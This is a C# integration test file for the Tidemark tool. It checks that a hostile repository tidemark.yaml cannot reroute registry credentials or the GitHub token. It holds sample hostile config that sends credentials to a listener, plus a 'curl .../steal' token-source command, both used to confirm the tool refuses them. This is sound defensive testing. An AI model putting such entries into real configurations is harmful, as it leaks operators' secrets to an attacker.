using Tidemark.Testing;

namespace Tidemark.IntegrationTests.Run;

/// <summary>
/// The repository being updated is untrusted input (docs/security.md): its own tidemark.yaml may not choose where a
/// credential goes. A hostile one is refused at its file:line before any registry request, push or pull request.
/// </summary>
public sealed class HostileRepositoryTests(RunFixture fixture) : IClassFixture<RunFixture>
{
    private const string OperatorHost = "registry.operator.example";

    [Fact]
    public async Task Run_RepositoryConfigRoutesCredentialsToItsServer_ExitsTwoAtTheLineAndSendsNothingAnywhere()
    {
        await using var listener = await RecordingListener.StartAsync();
        using var scene = await fixture.NewSceneAsync();
        using var docker = new TempFolder();
        // the operator's docker config holds a login for registry.operator.example: the hostile entry tries to divert it
        File.WriteAllText(Path.Combine(docker.Path, "config.json"), "{\"auths\":{\"" + OperatorHost + "\":{\"auth\":\"" + Convert.ToBase64String("ops:operator-pass"u8) + "\"}}}");
        scene.Variables["DOCKER_CONFIG"] = docker.Path;
        scene.Variables["REG_USER"] = "x";
        var (content, line) = Hostile(listener.Host);
        await scene.GitHub.CommitAsync(scene.Repository, "main", new Dictionary<string, string> { ["tidemark.yaml"] = content }, "Route registry credentials");
        var main = scene.BranchSha("main");
        var writes = scene.RestWrites();

        var run = await scene.RunAsync();

        Assert.True(run.ExitCode == 2, run.Error + run.Out);
        Assert.Contains($"tidemark.yaml:{line}:1: error (repository file): registries: ", run.Error, StringComparison.Ordinal);
        Assert.Contains("move it to the operator's --config file; see docs/security.md", run.Error, StringComparison.Ordinal);
        Assert.Empty(listener.Requests);
        Assert.Null(scene.BranchSha(RunScene.UpdateBranch));
        Assert.Equal(main, scene.BranchSha("main"));
        Assert.Empty(scene.Repository.PullRequests);
        Assert.Equal(writes, scene.RestWrites());
        Assert.DoesNotContain(scene.Token, run.Error + run.Out, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("plan")]
    [InlineData("refs")]
    public async Task LocalCommand_RepositoryConfigWithRegistries_ExitsTwoAtTheLineAndSendsNothing(string command)
    {
        await using var listener = await RecordingListener.StartAsync();
        var repo = ExampleRepository.Copy();
        try
        {
            var (content, line) = Hostile(listener.Host);
            await File.WriteAllTextAsync(Path.Combine(repo, "tidemark.yaml"), content);
            var before = await File.ReadAllTextAsync(Path.Combine(repo, "infrastructure", "cert-manager", "deployments.yaml"));

            var run = await Cli.CliRun.RunAsync(command, "--repo", repo);

            Assert.Equal(2, run.ExitCode);
            Assert.Contains($"tidemark.yaml:{line}:1: error (repository file): registries: ", run.Error, StringComparison.Ordinal);
            Assert.Empty(listener.Requests);
            Assert.Equal(before, await File.ReadAllTextAsync(Path.Combine(repo, "infrastructure", "cert-manager", "deployments.yaml")));
        }
        finally
        {
            Directory.Delete(repo, recursive: true);
        }
    }

    [Fact]
    public async Task Doctor_RepositoryConfigWithGitHubTokenSources_FailsTheCheckoutCheckAtTheLine()
    {
        using var scene = await fixture.NewSceneAsync();
        var original = await File.ReadAllTextAsync(Path.Combine(ExampleRepository.SourceRoot(), "examples", "tidemark.yaml"));
        var line = original.TrimEnd('\n').Split('\n').Length + 1;
        await scene.GitHub.CommitAsync(scene.Repository, "main", new Dictionary<string, string> { ["tidemark.yaml"] = original.TrimEnd('\n') + "\ngithub:\n  nextToken: { command: \"curl http://127.0.0.1:9/steal\" }\n" }, "Choose the token source");

        var run = await scene.TidemarkAsync("doctor", "--repo", scene.RemoteUrl, "--api-url", scene.GitHub.ApiUri.AbsoluteUri, "--work-dir", scene.WorkDir);

        // doctor reports a configuration error as its failed checkout check (like any tidemark.yaml error), not as exit 2
        Assert.True(run.ExitCode == 3, run.Error + run.Out);
        Assert.Contains($"tidemark.yaml:{line}:1: error (repository file): github: the GitHub token's sources are read only from the operator's --config file", run.Out, StringComparison.Ordinal);
        Assert.Contains("skipped: it needs checkout", run.Out, StringComparison.Ordinal);
    }

    /// <summary>The example's tidemark.yaml with a hostile registries: section appended, and the line of that key.</summary>
    private static (string Content, int Line) Hostile(string listenerHost)
    {
        var original = File.ReadAllText(Path.Combine(ExampleRepository.SourceRoot(), "examples", "tidemark.yaml")).TrimEnd('\n');
        var line = original.Split('\n').Length + 1;
        var content = original + $"""

            registries:
              - host: quay.io
                endpoint: http://{listenerHost}
                credentials: {"{"} usernameEnv: REG_USER, passwordEnv: GITHUB_TOKEN {"}"}
              - host: {OperatorHost}
                endpoint: http://{listenerHost}
              - host: docker.io
                endpoint: http://{listenerHost}
                caBundle: /etc/ssl/certs/ca-certificates.crt
                insecure: true

            """;
        return (content, line);
    }

    private sealed class TempFolder : IDisposable
    {
        public string Path { get; } = Directory.CreateTempSubdirectory("tidemark-docker-").FullName;

        public void Dispose() => Directory.Delete(Path, recursive: true);
    }
}
